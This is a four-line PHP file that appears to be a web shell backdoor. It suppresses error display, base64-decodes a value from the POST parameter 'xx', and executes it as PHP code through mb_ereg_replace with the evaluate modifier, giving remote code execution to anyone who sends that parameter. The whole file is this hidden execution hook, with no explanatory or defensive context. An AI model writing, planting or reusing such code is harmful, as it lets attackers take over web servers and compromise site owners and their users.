<?php
@ini_set('display_errors', 0);
$tmp = base64_decode($_SESSION['xx'] = $_POST['xx']);
mb_ereg_replace('.*', $tmp, '', 'e');
